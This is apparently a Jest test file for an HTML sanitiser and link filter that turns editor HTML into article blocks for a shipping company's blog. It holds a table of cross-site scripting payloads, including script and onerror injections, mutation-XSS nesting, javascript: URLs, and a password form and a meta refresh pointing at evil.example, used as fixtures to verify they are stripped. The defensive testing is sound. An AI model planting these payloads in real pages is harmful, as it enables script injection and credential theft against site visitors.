import { describe, expect, it } from '@jest/globals';
import { articleHref, queryFrontBlogDetail, type ArticleBlock, type TextRun } from '@amberlane/contract/calls/articles';
import { readArticleHtml, safeHref } from './article-html.ts';

describe('the HTML of an editor', () => {
  it('becomes headings, paragraphs, lists, quotes and tables', () => {
    const html = `
      <h2>Before you <em>send</em></h2>
      <p>Weigh the <strong>packed</strong> parcel, then <a href="/express/order-quote">ask for a price</a>.<br>It takes two minutes.</p>
      <h3>Bring</h3>
      <ul><li>the invoice</li><li><p>your <b>identity card</b></p></li></ul>
      <ol><li>Pack</li><li>Seal<ol><li>Tape twice</li></ol></li></ol>
      <blockquote><p>Light goods cost what they occupy.</p></blockquote>
      <table><thead><tr><th>Box</th><th>Weight</th></tr></thead><tbody><tr><td>Small</td><td>2 kg</td></tr><tr><td>Large</td></tr></tbody></table>`;
    expect(readArticleHtml(html)).toEqual([
      { kind: 'heading', text: 'Before you send' },
      {
        kind: 'paragraph',
        text: 'Weigh the packed parcel, then ask for a price.\nIt takes two minutes.',
        runs: [
          { text: 'Weigh the ' }, { text: 'packed', strong: true }, { text: ' parcel, then ' },
          { text: 'ask for a price', href: 'express/order-quote' }, { text: '.\nIt takes two minutes.' },
        ],
      },
      { kind: 'heading', text: 'Bring', level: 3 },
      {
        kind: 'list',
        items: ['the invoice', 'your identity card'],
        runs: [[{ text: 'the invoice' }], [{ text: 'your ' }, { text: 'identity card', strong: true }]],
      },
      { kind: 'list', items: ['Pack', 'Seal', 'Tape twice'], ordered: true },
      { kind: 'quote', text: 'Light goods cost what they occupy.' },
      { kind: 'table', head: [{ text: 'Box' }, { text: 'Weight' }], rows: [[{ text: 'Small' }, { text: '2 kg' }], [{ text: 'Large' }, { text: '' }]] },
    ]);
  });

  it('takes words that stand in no paragraph, and ends paragraphs where a part of the page ends', () => {
    expect(readArticleHtml('One <span>two</span><div>three<section>four</section></div>five')).toEqual(
      ['One two', 'three', 'four', 'five'].map((text) => ({ kind: 'paragraph', text })),
    );
  });

  it('leaves out what is empty', () => {
    expect(readArticleHtml('<p> <br> </p><h2></h2><ul><li> </li></ul><blockquote></blockquote><table><tr><td></td></tr></table>')).toEqual([]);
  });

  it('keeps unbreakable blanks and makes others one', () => {
    expect(readArticleHtml('<p>2\u00a0kg\u202f:\n\t  oui</p>')).toEqual([{ kind: 'paragraph', text: '2\u00a0kg\u202f: oui' }]);
  });
});

/** Everything that a browser would look at. */
const wordsOf = (blocks: readonly ArticleBlock[]): string => JSON.stringify(blocks);
const runsIn = (blocks: readonly ArticleBlock[]): TextRun[] =>
  blocks.flatMap((block) => {
    if (block.kind === 'list') return (block.runs ?? []).flat();
    if (block.kind === 'table') return [block.head, ...block.rows].flat().flatMap(({ runs = [] }) => runs);
    return 'runs' in block ? (block.runs ?? []) : [];
  });

/** Attacks on sanitisers, each with what may be left of it. */
const HOSTILE: readonly (readonly [name: string, html: string, left: string])[] = [
  ['a script', '<p>a<script>alert(1)</script>b</p>', 'ab'],
  ['a script in capitals, with blanks', '<p>a<SCRIPT\n src=//evil.example/x.js ></ScRiPt >b</p>', 'ab'],
  ['a script that never ends', 'a<script>alert(1)', 'a'],
  ['a script split by a script', '<p>a<scr<script></script>ipt>alert(1)</script></p>', 'aipt>alert(1)'],
  ['handlers', '<p onclick="alert(1)" onmouseover=alert(1)>a</p>', 'a'],
  ['a handler on a link', '<a href="https://site.example/" onfocus=alert(1) autofocus>a</a>', 'a'],
  ['a picture with a handler', '<img src=x onerror=alert(1)>a', 'a'],
  ['a picture within a word', 'a<img src="x` `<script>alert(1)</script>"` `>b', 'ab'],
  ['SVG with a script', '<svg><script>alert(1)</script><text>x</text></svg>a', 'a'],
  ['SVG with a handler', '<svg/onload=alert(1)>', ''],
  ['SVG that smuggles HTML', '<svg><foreignObject><p>x</p></foreignObject></svg>a', 'a'],
  ['MathML with a link', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>a', 'a'],
  ['nesting that changes when parsed twice', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', ''],
  ['a form in a form in MathML', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">', ''],
  ['a title that hides an element', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript>b', '">a|b'],
  ['a text area that hides an element', '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>a', '">a'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->a', '-->a'],
  ['a conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]-->a', 'a'],
  ['character data', '<![CDATA[<script>alert(1)</script>]]>a', 'alert(1)]]>a'],
  ['a template', '<template><p>x</p><script>alert(1)</script></template>a', 'a'],
  ['frames and objects', '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">a', 'a'],
  ['a style sheet', '<style>@import "//evil.example"</style><p style="background:url(javascript:alert(1))">a</p>', 'a'],
  ['base, link and meta', '<base href="//evil.example/"><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content="0;url=//evil.example">a', 'a'],
  ['a form that asks for a password', '<form action="//evil.example"><input name=password><button>Sign in</button>a</form>', 'a'],
  ['markup in entities', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', '<script>alert(1)</script>'],
  ['an element that nobody knows', '<x-evil onclick=alert(1)>a</x-evil>', 'a'],
  ['NUL characters', '<p>a\u0000<scr\u0000ipt>b</p>', 'ab'],
  ['text that turns itself around', '<p>pay \u202Eknab eht ot\u202C \u2066a\u2069</p>', 'pay knab eht ot a'],
  ['plain text to the end', 'a<plaintext><script>alert(1)</script>', 'a'],
];

describe('hostile HTML', () => {
  it.each(HOSTILE)('%s leaves words only', (_name, html, left) => {
    const blocks = readArticleHtml(html);
    const texts = blocks.map((block) => ('text' in block ? block.text : wordsOf([block])));
    expect(texts.join('|')).toBe(left);
    expect(runsIn(blocks).filter(({ href }) => href !== undefined && href !== 'https://site.example/')).toEqual([]);
  });

  it.each(HOSTILE)('%s passes the contract', (_name, html) => {
    expect(queryFrontBlogDetail.reply.shape.body.safeParse(readArticleHtml(html)).success).toBe(true);
  });

  it('is read in bounded time and depth', () => {
    expect(readArticleHtml('<div>'.repeat(50_000) + 'a')).toEqual([]);
    expect(readArticleHtml('<b>'.repeat(20_000)).length).toBe(0);
    expect(readArticleHtml('<ul><li>'.repeat(5_000) + 'a').length).toBeLessThanOrEqual(1);
    expect(readArticleHtml(`<p>${'a '.repeat(300_000)}</p>`)).toHaveLength(1);
    const start = performance.now();
    for (const nested of ['<div>', '<div></x>', '<ul><li>', '<b><p>', '<table><tr><td>']) readArticleHtml(nested.repeat(20_000));
    expect(performance.now() - start).toBeLessThan(5_000);
  });

  it('whose end tags were left out keeps its words', () => {
    expect(readArticleHtml('<p>word<br>'.repeat(1_500))).toHaveLength(1_500);
  });
});

describe('links', () => {
  it.each([
    ['https://www.customs.gov.example/tariff?code=42', 'https://www.customs.gov.example/tariff?code=42'],
    ['HTTP://site.example', 'http://site.example/'],
    ['/service-rule#weight', 'service-rule#weight'],
    ['track?numbers=NG407183529669', 'track?numbers=NG407183529669'],
    [' ht\ntps://site.example/a b', 'https://site.example/ab'],
  ])('%j leads to %s', (written, href) => {
    expect(safeHref(written)).toBe(href);
  });

  it.each([
    'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', 'javascript&colon;alert(1)', ' javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'blob:https://site.example/1', 'file:///etc/passwd', 'mailto:a@b.example',
    '//evil.example', '/\\evil.example', '\\\\evil.example', '/\t/evil.example', 'https:evil', 'https://user:secret@evil.example/', 'http://',
    '../admin', './x', '', '#', '?x=1', 'Service', 'a b:c', 'x'.repeat(600),
  ])('%j leads nowhere', (written) => {
    const href = safeHref(written);
    // A web address that lacks its slashes is one for browsers too.
    expect(href === null || href.startsWith('https://')).toBe(true);
    if (href !== null) expect(new URL(href).username).toBe('');
  });

  it('are refused by the contract in every form that is no web address and no path', () => {
    for (const href of ['javascript:alert(1)', '//evil.example', '/x', 'data:,x', 'https://a b', 'https://x"onclick=', 'x\ny']) {
      expect(articleHref.safeParse(href).success).toBe(false);
    }
  });

  it('that lead nowhere leave their words', () => {
    expect(readArticleHtml('<p>Read <a href="javascript:alert(1)">this</a>.</p>')).toEqual([{ kind: 'paragraph', text: 'Read this.' }]);
  });
});
